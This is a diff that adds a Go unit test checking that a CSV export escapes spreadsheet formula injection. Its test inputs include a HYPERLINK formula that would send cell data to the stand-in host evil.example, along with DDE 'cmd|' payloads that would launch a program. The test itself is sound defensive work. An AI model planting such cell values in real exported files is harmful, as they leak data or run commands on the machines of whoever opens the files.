@@ -201,3 +201,45 @@ func copyRun(t *testing.T, name string) string {
 	}
 	return dst
 }
+
+// TestCSVCellsCannotBeFormulas: a criterion's text cells that a spreadsheet
+// would evaluate (=HYPERLINK(…), +, -, @, tab, CR) are written as text with
+// a leading apostrophe; numbers, negative ones included, stay numbers.
+func TestCSVCellsCannotBeFormulas(t *testing.T) {
+	r, err := load(fixtureRun(t, "pass"), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := r.crit[0].c
+	c.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	c.Reason, c.OnFail, c.Limits, c.Measure = "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"
+	c.Step, c.StepName = "\r=1", "-1.5"
+	lo := -10.25
+	c.Lo = &lo
+	var b bytes.Buffer
+	if err := r.WriteCriteriaCSV(&b); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	row := map[string]string{}
+	for i, h := range rows[0] {
+		row[h] = rows[1][i]
+	}
+	for col, want := range map[string]string{
+		"name":      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"reason":    "'+1+cmd|' /C calc'!A0",
+		"on_fail":   "'@SUM(A1:A9)",
+		"limits":    "'-2+3+cmd|' /C calc'!A0",
+		"measure":   "'\t=1+1",
+		"step":      "'\r=1",
+		"step_name": "-1.5",
+		"lo":        "-10.25",
+	} {
+		if row[col] != want {
+			t.Errorf("%s: %q, want %q", col, row[col], want)
+		}
+	}
+}
